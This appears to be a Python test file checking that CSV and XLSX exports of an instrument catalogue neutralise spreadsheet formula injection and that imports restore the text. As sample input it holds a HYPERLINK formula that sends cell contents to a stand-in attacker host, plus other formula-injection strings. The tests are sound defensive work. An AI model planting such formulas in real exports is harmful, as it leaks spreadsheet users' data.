"""No CSV or XLSX we write carries a formula someone typed."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlmodel import Session, select

from core.exports import safe_cell, unneutralise
from instruments.csv_io import csv_export, csv_import
from instruments.models import Instrument
from tests.factories import create_instrument

EVIL = '=HYPERLINK("http://evil.example/?"&A1, "click")'


def test_cells_that_would_run_are_neutralised_and_numbers_kept() -> None:
    for text in (EVIL, "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rx", "=1"):
        assert safe_cell(text) == "'" + text
        assert unneutralise(safe_cell(text)) == text
    for kept in ("Orbitrap", "-12.50", "+7", "42", "", "a=b", "'quoted"):
        assert safe_cell(kept) == kept
    assert safe_cell(-5) == -5 and safe_cell(None) is None


def test_the_catalog_export_neutralises_and_the_import_restores(session: Session) -> None:
    create_instrument(session, name=EVIL, code="EVIL-1")
    out = io.StringIO()
    csv_export(session, out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    names = [r[rows[0].index("name")] for r in rows[1:]]
    assert names == ["'" + EVIL]
    again = out.getvalue().replace("EVIL-1", "EVIL-9")
    result = csv_import(session, io.StringIO(again))
    assert result.loaded == 1, result.errors
    session.commit()
    copy = session.exec(select(Instrument).where(Instrument.code == "EVIL-9")).one()
    assert copy.name == EVIL


def test_the_assessment_csv_and_the_settlement_xlsx(client: TestClient, session: Session) -> None:
    from admin.reports import assessment_csv

    create_instrument(session, name=EVIL, code="EVIL-2")
    text = assessment_csv(session, period="2026-11")
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text

    from openpyxl import Workbook

    from core.exports import sheet_append

    book = Workbook()
    sheet_append(book.active, ["=Institution that is a formula", 3])
    data = io.BytesIO()
    book.save(data)
    cell = load_workbook(io.BytesIO(data.getvalue())).active["A1"]
    assert (cell.value, cell.data_type) == ("=Institution that is a formula", "s")
